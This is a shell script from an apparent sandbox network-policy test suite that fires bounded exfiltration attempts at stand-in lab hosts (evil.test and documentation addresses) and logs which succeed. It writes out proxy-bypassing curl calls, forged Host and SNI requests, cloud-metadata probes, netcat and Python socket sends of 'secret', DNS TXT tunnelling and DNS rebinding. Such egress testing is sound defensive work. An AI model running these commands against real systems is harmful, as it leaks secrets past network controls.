#!/bin/sh
# A hostile task's exfiltration attempts, run inside the sandbox by
# test_exfil.sh and ./demo. Each attempt is bounded in time and writes one
# line "NAME RC" to $1 (RC 0 means the client reported success). The lab's
# addresses: evil.test is 203.0.113.66 and 2001:db8:66::66; the lab's real
# resolver is 192.0.2.53. Nothing here can leave the lab's namespaces.
#
#   attempts.sh RESULTS exfil|rebind
out=$1
group=${2:-exfil}
: >"$out"
EVIL4=203.0.113.66
EVIL6=2001:db8:66::66
T="timeout 8"

try() {
	name=$1
	shift
	$T "$@" >/dev/null 2>&1
	echo "$name $?" >>"$out"
}

# Around the proxy variables (try runs commands, not shell functions).
noproxy="env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy"

# Positive control: the allowed registry works in the same sandbox, so a
# denial below is the policy, not a broken network.
try control-pypi curl -sSf https://pypi.org/simple/labpkg/

if [ "$group" = exfil ]; then

# HTTPS and HTTP by name, through the proxy variables and around them.
try curl-proxy-https curl -sSf https://evil.test/
try curl-proxy-http curl -sSf http://evil.test/
try curl-noproxy-https curl -sSf --noproxy '*' https://evil.test/
try curl-unset-proxy $noproxy curl -sSf https://evil.test/
# By address: absolute-form and CONNECT to an IP literal, and direct
# (transparent) over v4 and v6, with a forged Host and SNI.
try curl-proxy-ip curl -sSf http://$EVIL4/
try curl-direct-ip $noproxy curl -sSf http://$EVIL4/
try curl-direct-ip6 $noproxy curl -sSfk "https://[$EVIL6]/"
try curl-forged-host $noproxy curl -sSf -H "Host: pypi.org" http://$EVIL4/
# SNI pypi.org sent to evil.test's address: the proxy must dial pypi.org's
# own address (the request may then succeed, at pypi.org: no leak).
try sni-mismatch $noproxy curl -sSf --resolve "pypi.org:443:$EVIL4" https://pypi.org/simple/
# The host's own services (the supervisor's loopback and address) and
# cloud metadata.
# NO_PROXY covers 127.0.0.1 (the sandbox's own loopback, where nothing
# listens); --noproxy '' sends it to the proxy anyway.
try curl-proxy-loopback curl -sSf --noproxy '' http://127.0.0.1/
try curl-proxy-host curl -sSf http://192.0.2.1/
try curl-metadata $noproxy curl -sSf http://169.254.169.254/

# python, as a build script would.
try python-urllib python3 -c 'import urllib.request as u; u.urlopen("https://evil.test/", timeout=5)'
try python-socket python3 -c "import socket; s = socket.create_connection(('$EVIL4', 4444), timeout=5); s.sendall(b'\\x00secret'); assert s.recv(1)"
try python-udp python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('$EVIL4', 4444))"

# nc: raw TCP over v4 and v6, UDP (QUIC's port).
try nc-tcp sh -c "echo secret | nc -w 3 -N $EVIL4 4444"
try nc-tcp6 sh -c "echo secret | nc -w 3 -N $EVIL6 4444"
try nc-udp sh -c "echo secret | nc -u -w 1 $EVIL4 443"
try nc-udp6 sh -c "echo secret | nc -u -w 1 $EVIL6 443"

# DNS tunnelling: a TXT query through the sandbox's resolver, straight to the
# lab's resolver, and to evil.test's address as if it ran a name server.
# Success means an answer came back carrying the canary's TXT record.
dnsq() {
	try "$1" sh -c "dig +time=2 +tries=1 $2 2>/dev/null | grep -q canary"
}
dnsq dig-txt "TXT secret.evil.test"
dnsq dig-txt-lab-resolver "@192.0.2.53 TXT secret.evil.test"
dnsq dig-txt-evil-server "@$EVIL4 TXT secret.evil.test"
dnsq dig-txt-tcp "+tcp @192.0.2.53 TXT secret.evil.test"

fi

if [ "$group" = rebind ]; then
# Rebinding: allowed names (in test_exfil.sh's policy) whose answers are
# the host's loopback, cloud metadata and the host's own address.
try rebind-loopback curl -sSf http://rebind-loopback.test/
try rebind-metadata curl -sSf http://rebind-metadata.test/
try rebind-host curl -sSf http://rebind-host.test:8080/
try rebind-loopback-direct $noproxy curl -sSf http://rebind-loopback.test/
try rebind-metadata-direct $noproxy curl -sSf http://rebind-metadata.test/
fi
exit 0
